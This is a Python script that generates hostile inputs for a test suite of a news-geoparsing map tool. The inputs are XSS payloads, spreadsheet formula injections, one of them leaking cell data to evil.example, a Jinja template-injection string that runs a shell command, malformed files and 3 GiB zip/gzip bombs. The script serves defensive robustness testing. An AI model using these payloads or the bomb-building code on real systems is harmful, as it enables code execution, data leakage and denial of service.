"""Generate every hostile input of the hostile-input suite into a folder.

Nothing here is committed as data: the suite (tests/hostile/conftest.py) calls
:func:`generate` once per session, and a person can look at the same files with::

    python tests/hostile/make_inputs.py /tmp/hostile

The inputs are of three sorts.  Legitimate but hostile text that must map fine
(template syntax, HTML/JS payloads, spreadsheet formulas in article text, titles,
feed fields, JSON Lines fields and imported place names); broken or extreme input
that must be refused in one line (binary, NUL, non-UTF-8, UTF-16, empty, over the
20 MB input limit, deeply nested JSON, wrong JSON types, NaN and 1e308 numbers,
integers past 64 bits, CSV fields over 128 KB, bad config values); and compressed
bombs for ``geomap gazetteer import``, small on disk but gigabytes when expanded,
written by repeating one deflate block so that generating them needs no memory.
"""

from __future__ import annotations

import html
import json
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

__all__ = [
    "BIG_INPUT_BYTES",
    "BOMB_BYTES",
    "FORMULA_PAYLOADS",
    "IMPORTED_NAMES",
    "MARKER_NAME",
    "ODD_NAME",
    "TEMPLATE_PAYLOADS",
    "XSS_PAYLOADS",
    "generate",
    "graffiti",
    "news_text",
]

MARKER_NAME = "PWNED_MARKER"
"""The file the command-running template payload creates (``touch``, in the working
directory) if it runs."""

BIG_INPUT_BYTES = 25_000_000
"""Over the documented 20 MB input limit."""

BOMB_BYTES = 3 << 30
"""What each compressed bomb expands to (3 GiB of NUL bytes after a header line)."""

ODD_NAME = b"kharkiv-\xff\xfe-report.txt"
"""A file name that is not UTF-8 (each odd-name folder holds one good article by this name)."""

XSS_PAYLOADS: dict[str, str] = {
    "script": '<script>window.__pwned="script";document.title="PWNED"</script>',
    "img-onerror": "<img src=x onerror=\"window.__pwned='img'\">",
    "remote-img": '<img src="https://evil.example/pwned.png">',
    "svg-onload": "<svg onload=\"window.__pwned='svg'\">",
    "attribute-break": '"><script>window.__pwned="attr"</script>',
    "script-break": "</script><script>window.__pwned='break'</script>",
    "template-literal": '`${window.__pwned="template-literal"}`',
    "js-link": "<a href=\"javascript:window.__pwned='link'\">click</a>",
    "iframe": "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
}
"""HTML and JavaScript payloads; nothing of them may run in the map."""

JS_URL = "javascript:window.__pwned='url'//https://news.example.org/"
"""A source URL that runs script if it becomes a link's href."""

FORMULA_PAYLOADS: dict[str, str] = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2+cmd|' /C calc'!A0",
    "cr": "\r=1+2+cmd|' /C calc'!A0",
}
"""Cells a spreadsheet would run (OWASP's CSV injection list: = + - @ tab CR)."""

IMPORTED_NAMES: dict[str, list[str]] = {
    # payload class -> the invented alternate names (one per payload) the articles use
    "template": ["Vorplinsk", "Draxovka", "Quellburg", "Zenthavik", "Morvalinsk", "Pyrrhoton"],
    "xss": ["Skelvarod", "Brunzhalik", "Tevrakhiv", "Ulmorsk", "Xandrivka", "Yelvoborg",
            "Gorvanets", "Hlynorivka", "Kelmystan"],
    "formula": ["Ardovsk", "Bekhterino", "Chalvorsk", "Dunivetsk", "Erzhomyr", "Fovransk",
                "Izmalvets"],
}  # fmt: skip
"""Invented towns (none is in the gazetteer) whose imported primary names hold payloads."""


TEMPLATE_PAYLOADS: dict[str, str] = {
    "expression": "{{ 7*7 }}",
    "raw": "{% raw %}",
    "comment": "{#",
    "bad-expression": "{{ 7 7 }}",
    "empty-statement": "{% %}",
    # Runs `touch PWNED_MARKER`; written without quotes (as in the issue), so no escaping
    # of quotes can defuse it: the space is character 6 of "<class 'jinja2.utils.Cycler'>".
    "command": "{{ cycler.__init__.__globals__.os.popen((dict(touch=1)|join) ~ "
    "(cycler|string)[6] ~ (dict(" + MARKER_NAME + "=1)|join)).read() }}",
}
"""Jinja syntax that evaluates, breaks a template, or runs a command."""


def graffiti(payload: str) -> str:
    """The payload between two fixed words, so a test can find it, or find it evaluated
    (``graffiti 49 here``, ``graffiti  here``)."""
    return f"graffiti {payload} here"


def news_text(place: str, extra: str = "", *, day: int = 4) -> str:
    """One report of an incident in ``place`` that geomap turns into an incident."""
    return (
        f"Shelling hit {place} on Monday, March {day}, 2024, killing 3 people{extra}, "
        f"officials said. Rescue teams worked through the night in {place}."
    )


def _filler(words: int = 80) -> str:
    """Ordinary news prose, so a feed item is long enough to be the article itself."""
    sentence = ("Local officials said emergency crews were still clearing debris and that "
                "schools in the area would stay closed for the rest of the week. ")  # fmt: skip
    n = len(sentence.split())
    return (sentence * (words // n + 1)).strip()


# ---------------------------------------------------------------------- writers


def _write(folder: Path, name: str, data: str | bytes) -> Path:
    path = folder / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def _template_inputs(folder: Path) -> None:
    payloads = TEMPLATE_PAYLOADS
    for key, payload in payloads.items():
        title = f"Kharkiv shelling: {graffiti(payload)}"
        body = news_text("Kharkiv", f" after residents painted {graffiti(payload)}")
        _write(folder, f"template-{key}.txt", f"{title}\n\n{body}\n")
    every = " ".join(graffiti(p) for p in payloads.values())
    sentences = "\n\n".join(
        news_text(place, f" after residents painted {graffiti(p)}", day=day)
        for day, (place, p) in enumerate(
            zip(("Kharkiv", "Odesa", "Lviv", "Dnipro", "Poltava", "Sumy"), payloads.values(),
                strict=True), start=4)
    )  # fmt: skip
    _write(folder, "template-all.txt", f"Reports: {every}\n\n{sentences}\n")
    _write(folder, "page-template.html", _page(
        title=f"Kharkiv: {every}",
        site=f"Site {payloads['expression']} {payloads['command']}",
        paragraphs=[news_text("Kharkiv", f" after residents painted {graffiti(p)}")
                    for p in payloads.values()],
    ))  # fmt: skip
    _write(folder, "feed-template.rss", _feed(
        site=f"News {payloads['expression']} {payloads['raw']}",
        items=[(f"Odesa report {graffiti(p)}",
                f"https://news.example.org/{key}/{p}",
                f"{news_text('Odesa', f' after residents painted {graffiti(p)}', day=4 + n)} "
                f"{_filler()}")
               for n, (key, p) in enumerate(payloads.items())],
    ))  # fmt: skip
    records = [
        {"id": f"template-{key}", "title": f"Lviv report {graffiti(p)}",
         "url": f"https://news.example.org/{key}?q={p}", "site": f"Site {graffiti(p)}",
         "date": f"2024-03-{4 + n:02d}",
         "text": news_text("Lviv", f" after residents painted {graffiti(p)}", day=4 + n)}
        for n, (key, p) in enumerate(payloads.items())
    ]  # fmt: skip
    _write(folder, "records-template.jsonl", _jsonl(records))


def _xss_inputs(folder: Path) -> None:
    every = " ".join(XSS_PAYLOADS.values())
    sentences = "\n\n".join(
        news_text("Kharkiv", f" as a banner read {p}", day=4 + n % 20)
        for n, p in enumerate(XSS_PAYLOADS.values())
    )
    _write(folder, "xss.txt", f"Kharkiv {every}\n\n{sentences}\n")
    _write(folder, "page-xss.html", _page(
        title=f"Kharkiv {every}",
        site=every,
        paragraphs=[news_text("Kharkiv", f" as a banner read {p}") for p in XSS_PAYLOADS.values()],
        url=JS_URL,
    ))  # fmt: skip
    _write(folder, "feed-xss.rss", _feed(
        site=every,
        items=[(f"Odesa {p}", JS_URL,
                f"{news_text('Odesa', f' as a banner read {p}', day=4 + n)} {_filler()}")
               for n, p in enumerate(XSS_PAYLOADS.values())],
    ))  # fmt: skip
    records = [
        {"id": f"xss-{key}", "title": f"Lviv {p}", "url": JS_URL, "site": p,
         "date": f"2024-03-{4 + n:02d}", "text": news_text("Lviv", f" as a banner read {p}",
                                                          day=4 + n)}
        for n, (key, p) in enumerate(XSS_PAYLOADS.items())
    ]  # fmt: skip
    _write(folder, "records-xss.jsonl", _jsonl(records))


def _formula_inputs(folder: Path) -> None:
    """Articles whose titles and sentences begin with formulas; half lack a title or a
    date, so exports mix titled and untitled, dated and undated articles."""
    records = []
    for n, (key, formula) in enumerate(FORMULA_PAYLOADS.items()):
        # One line over 200 characters: without a "title" it is not taken as the title.
        record: dict[str, object] = {
            "id": f"formula-{key}",
            "text": f"{formula} Shelling hit Kharkiv on Monday, killing {n + 2} people, officials "
            "said, and rescue teams worked through the night to clear the rubble of the homes "
            f"that were hit. {formula} Drones struck Odesa, injuring {n + 1}.",
        }
        if n % 2 == 0:
            record |= {"title": formula, "date": "2024-03-04", "site": formula,
                       "url": f"https://news.example.org/{key}"}  # fmt: skip
        records.append(record)
    _write(folder, "records-formula.jsonl", _jsonl(records))


def _imported_places(folder: Path) -> None:
    """Places CSVs whose primary names (and regions) hold payloads; the articles name
    them by their plain alternate names, so the payload is what the map shows."""
    classes = {
        "template": list(TEMPLATE_PAYLOADS.values()),
        "xss": list(XSS_PAYLOADS.values()),
        "formula": list(FORMULA_PAYLOADS.values()),
    }
    header = "name,lat,lon,feature_type,country_code,alternate_names,admin1,population\n"
    for label, payloads in classes.items():
        rows = [header]
        lines = []
        for n, (alias, payload) in enumerate(zip(IMPORTED_NAMES[label], payloads, strict=True)):
            name = payload if label == "formula" else f"{alias} {payload}"
            lat, lon = 48.0 + n * 0.25, 31.0 + n * 0.5
            rows.append(_csv_row([name, lat, lon, "city", "UA", alias, payload, 2_000_000]))
            lines.append(news_text(alias, day=4 + n))
        _write(folder, f"places-{label}.csv", "".join(rows))
        _write(folder, f"imported-{label}.txt", "Reports from the front\n\n" + "\n\n".join(lines))


def _bad_files(folder: Path) -> None:
    rng = random.Random(10)
    _write(folder, "empty.txt", b"")
    _write(folder, "blank.txt", b" \n\t\n  \n")
    _write(folder, "binary.txt", bytes(rng.getrandbits(8) for _ in range(4096)) + b"\x00")
    _write(folder, "nul.txt", news_text("Kharkiv").encode() + b"\x00" + b"more text\n")
    latin1 = f"Caf\u00e9 in Kharkiv\n\n{news_text('Kharkiv')}".encode("latin-1")
    _write(folder, "latin1.txt", latin1)
    _write(folder, "utf16.txt", f"Kharkiv\n\n{news_text('Kharkiv')}".encode("utf-16"))
    _write(folder, "binary-stdin.bin", bytes(rng.getrandbits(8) for _ in range(65536)))
    _write(folder, "good.txt", f"Kharkiv shelling\n\n{news_text('Kharkiv')}\n")
    paragraph = (news_text("Kharkiv") + "\n\n").encode()
    with (folder / "big.txt").open("wb") as fh:
        for _ in range(BIG_INPUT_BYTES // len(paragraph) + 1):
            fh.write(paragraph)
    record = (json.dumps({"id": "x", "text": news_text("Kharkiv")}) + "\n").encode()
    with (folder / "big.jsonl").open("wb") as fh:
        for n in range(BIG_INPUT_BYTES // len(record) + 1):
            fh.write(record.replace(b'"x"', f'"r{n}"'.encode()))
    odd = folder / "odd-names"
    odd.mkdir()
    fd = os.open(os.fsencode(odd) + b"/" + ODD_NAME, os.O_WRONLY | os.O_CREAT, 0o644)
    with os.fdopen(fd, "wb") as fh:
        fh.write(f"Kharkiv shelling\n\n{news_text('Kharkiv')}\n".encode())


def _pathological(folder: Path) -> None:
    """Legitimate input that once took minutes: one long line in capitals (no trusted
    case, no line breaks) and a page with one attribute of 9.9 MB."""
    shout = news_text("KHARKIV").upper() + " "
    _write(folder, "caps-line.txt", shout * (500_000 // len(shout)) + "\n")
    page = _page(title="Kharkiv", site="News", paragraphs=[news_text("Kharkiv")])
    _write(folder, "huge-attribute.html",
           page.replace("<article>", f'<div data-x="{"x" * 9_900_000}"></div><article>'))


def _records(folder: Path) -> None:
    depth = 100_000
    nested = "[" * depth + "]" * depth
    _write(folder, "nested-text.jsonl", f'{{"id": "deep", "text": {nested}}}\n')
    _write(folder, "nested-extra.jsonl",
           f'{{"id": "deep", "text": {json.dumps(news_text("Kharkiv"))}, "extra": {nested}}}\n')
    _write(folder, "wrong-types.jsonl", _jsonl([
        {"id": 5, "text": 7},
        {"id": {"a": 1}, "text": ["Shelling hit Kharkiv."], "title": ["x"], "date": 20240101},
    ]))  # fmt: skip
    _write(folder, "wrong-optional-types.jsonl", _jsonl([
        {"id": {"a": 1}, "text": news_text("Kharkiv"), "title": ["x"], "url": {"u": 1},
         "site": 3, "domain": [1, 2]},
    ]))  # fmt: skip
    _write(folder, "wrong-date-type.jsonl", _jsonl([
        {"id": "d", "text": news_text("Kharkiv"), "date": {"year": 2024}},
    ]))
    text = news_text("Kharkiv")
    for label, number in (("1e308", "1e308"), ("1e400", "1e400"), ("nan", "NaN"),
                          ("negative", "-1e308")):  # fmt: skip
        _write(folder, f"spans-{label}.jsonl",
               f'{{"id": "s", "text": {json.dumps(text)}, '
               f'"toponyms": [{{"start": {number}, "end": {number}}}]}}\n')  # fmt: skip
    _write(folder, "spans-wrong-type.jsonl",
           json.dumps({"id": "s", "text": text, "toponyms": "Kharkiv"}) + "\n")
    _write(folder, "geoparse-good.jsonl", json.dumps({"id": "g", "text": text}) + "\n")


def _gazetteer_files(folder: Path) -> None:
    good_row = _geonames_row("9900101", "Vorlynka", "48.5", "35.1")
    _write(folder, "geonames-nan.txt", _geonames_row("9900102", "Nanivka", "nan", "nan"))
    _write(folder, "geonames-inf.txt", _geonames_row("9900103", "Infivka", "inf", "-inf"))
    _write(folder, "geonames-1e308.txt", _geonames_row("9900104", "Hugivka", "1e308", "35.0"))
    _write(folder, "geonames-big-id.txt",
           _geonames_row("99999999999999999999999", "Bigidivka", "48.6", "35.2"))
    _write(folder, "geonames-big-population.txt",
           _geonames_row("9900105", "Qopulonsk", "48.7", "35.3", population="1" + "0" * 30))
    _write(folder, "geonames-population-1e400.txt",
           _geonames_row("9900106", "Expivka", "48.8", "35.4", population="1e400"))
    header = "name,lat,lon,feature_type,country_code,alternate_names,admin1,population\n"
    _write(folder, "places-population-1e400.csv",
           header + _csv_row(["Expograd", 48.9, 35.5, "city", "UA", "", "", "1e400"]))
    _write(folder, "places-nan.csv", header + _csv_row(["Nangrad", "nan", "nan", "city", "UA",
                                                         "", "", ""]))  # fmt: skip
    _write(folder, "places-1e308.csv", header + _csv_row(["Hugegrad", "1e308", "35", "city",
                                                           "UA", "", "", ""]))  # fmt: skip
    _write(folder, "places-big-field.csv", header + _csv_row(
        ["Widegrad", 48.9, 35.5, "city", "UA", "x" * 200_000, "", ""]))  # fmt: skip
    good_zip = folder / "UA-good.zip"
    with zipfile.ZipFile(good_zip, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("UA.txt", good_row * 2000)
    data = bytearray(good_zip.read_bytes())
    name_len, extra_len = struct.unpack_from("<HH", data, 26)
    start = 30 + name_len + extra_len
    corrupt = bytearray(data)
    for i in range(start + 20, start + 60):
        corrupt[i] ^= 0x5A
    _write(folder, "UA-corrupt.zip", bytes(corrupt))
    central = data.rfind(b"PK\x01\x02")
    encrypted = bytearray(data)
    encrypted[6] |= 1
    encrypted[central + 8] |= 1
    _write(folder, "UA-encrypted.zip", bytes(encrypted))
    unsupported = bytearray(data)
    struct.pack_into("<H", unsupported, 8, 99)
    struct.pack_into("<H", unsupported, central + 10, 99)
    _write(folder, "UA-unsupported.zip", bytes(unsupported))
    _write(folder, "UA-not-a-zip.zip", b"PK\x03\x04" + b"\x00" * 100)
    header_line = header.encode()
    with (folder / "bomb.csv.gz").open("wb") as fh:
        _gzip_zero_bomb(fh, header_line, BOMB_BYTES)
    with (folder / "bomb.zip").open("wb") as fh:
        _zip_zero_bomb(fh, "allCountries.txt", b"", BOMB_BYTES)
    with (folder / "bomb-gz.txt.gz").open("wb") as fh:  # a GeoNames dump, gzipped
        _gzip_zero_bomb(fh, good_row.encode(), BOMB_BYTES)


def _configs(folder: Path) -> None:
    configs = folder / "configs"
    configs.mkdir()
    _write(configs, "latin1.toml", '[geocoders.nominatim]\nuser_agent = "caf\u00e9"\n'.encode(
        "latin-1"))  # fmt: skip
    _write(configs, "utf16.toml", "[geocoders.nominatim]\ntimeout = 5\n".encode("utf-16"))
    _write(configs, "negative-timeout.toml", "[geocoders.nominatim]\ntimeout = -5\n")
    _write(configs, "zero-timeout.toml", "[geocoders.nominatim]\ntimeout = 0\n")
    _write(configs, "nan-timeout.toml", "[geocoders.nominatim]\ntimeout = nan\n")
    _write(configs, "string-timeout.toml", '[geocoders.nominatim]\ntimeout = "soon"\n')
    _write(configs, "retries.toml", "[geocoders.nominatim]\nmax_retries = 100000\n"
           "backoff_seconds = 0.01\nmax_backoff_seconds = 0.01\nmin_delay_seconds = 0\n")
    _write(configs, "negative-retries.toml", "[geocoders.nominatim]\nmax_retries = -1\n")
    _write(configs, "table-not-table.toml", "geocoders = 5\n")


def generate(folder: str | os.PathLike[str]) -> Path:
    """Write every hostile input into ``folder`` (created); returns it.

    Takes a few seconds (the 25 MB inputs and the bombs' checksums) and little memory.
    """
    root = Path(folder)
    root.mkdir(parents=True, exist_ok=True)
    for writer in (_template_inputs, _xss_inputs, _formula_inputs, _imported_places,
                   _bad_files, _pathological, _records, _gazetteer_files,
                   _configs):  # fmt: skip
        writer(root)
    return root


# ---------------------------------------------------------------------- formats


def _page(*, title: str, site: str, paragraphs: list[str], url: str | None = None) -> str:
    e = html.escape
    canonical = f'<link rel="canonical" href="{e(url)}">' if url else ""
    body = "\n".join(f"<p>{e(p)}</p>" for p in paragraphs)
    return (
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">"
        f"<title>{e(title)}</title>"
        f'<meta property="og:site_name" content="{e(site)}">'
        f'<meta property="og:title" content="{e(title)}">'
        '<meta property="article:published_time" content="2024-03-04T10:00:00Z">'
        f"{canonical}</head>\n<body><article><h1>{e(title)}</h1>\n{body}\n"
        f"<p>{e(_filler())}</p></article></body></html>\n"
    )


def _feed(*, site: str, items: list[tuple[str, str, str]]) -> str:
    """RSS 2.0; each summary is HTML whose text is the given text (so markup in the text
    stays text after the feed reader strips tags)."""
    e = html.escape
    entries = "".join(
        f"<item><title>{e(title)}</title><link>{e(link)}</link>"
        f"<description>{e(e(summary))}</description>"
        "</item>\n"
        for title, link, summary in items
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        f"<title>{e(site)}</title><link>https://news.example.org/</link>"
        f"<description>{e(site)}</description>\n{entries}</channel></rss>\n"
    )


def _jsonl(records: list[dict[str, object]]) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def _csv_row(values: list[object]) -> str:
    def cell(v: object) -> str:
        text = str(v)
        return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text

    return ",".join(cell(v) for v in values) + "\n"


def _geonames_row(gid: str, name: str, lat: str, lon: str, *, population: str = "500") -> str:
    columns = [gid, name, name, "", lat, lon, "P", "PPL", "UA", "", "07", "", "", "",
               population, "", "120", "Europe/Kyiv", "2024-01-10"]  # fmt: skip
    return "\t".join(columns) + "\n"


# ---------------------------------------------------------------------- bombs

_PIECE = 1 << 24  # 16 MiB of NUL bytes, compressed once and repeated


def _zero_deflate(prefix: bytes, size: int) -> tuple[Iterator[bytes], int]:
    """Raw deflate data of ``prefix`` then NUL bytes up to ``size`` bytes in all, as
    chunks, and the CRC-32 of the whole.  A full flush after each piece resets the
    compressor, so the one compressed piece can be repeated: the output stays ~1/1000
    of ``size`` and is never held in memory whole."""
    zeros = size - len(prefix)
    count, rest = divmod(zeros, _PIECE)
    crc = zlib.crc32(prefix)
    piece_bytes = bytes(_PIECE)
    for _ in range(count):
        crc = zlib.crc32(piece_bytes, crc)
    crc = zlib.crc32(bytes(rest), crc)

    def chunks() -> Iterator[bytes]:
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        yield co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
        piece = co.compress(piece_bytes) + co.flush(zlib.Z_FULL_FLUSH)
        for _ in range(count):
            yield piece
        yield co.compress(bytes(rest)) + co.flush(zlib.Z_FINISH)

    return chunks(), crc


def _gzip_zero_bomb(fh: object, prefix: bytes, size: int) -> None:
    chunks, crc = _zero_deflate(prefix, size)
    write = fh.write  # type: ignore[attr-defined]
    write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03")
    for chunk in chunks:
        write(chunk)
    write(struct.pack("<II", crc, size & 0xFFFFFFFF))


def _zip_zero_bomb(fh: object, member: str, prefix: bytes, size: int) -> None:
    """A zip with one deflated member of ``size`` bytes (under 4 GiB: no ZIP64 needed)."""
    assert size < 1 << 32
    chunks, crc = _zero_deflate(prefix, size)
    data = b"".join(chunks)  # ~size/1000 bytes
    name = member.encode()
    fixed = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x5821, crc, len(data), size)
    local = b"PK\x03\x04" + fixed + struct.pack("<HH", len(name), 0) + name
    central = (b"PK\x01\x02" + struct.pack("<H", 0x031E) + fixed
               + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0o100644 << 16, 0) + name)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central),
                                      len(local) + len(data), 0)  # fmt: skip
    write = fh.write  # type: ignore[attr-defined]
    for part in (local, data, central, end):
        write(part)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile/make_inputs.py OUT_DIR")
    print(generate(sys.argv[1]))
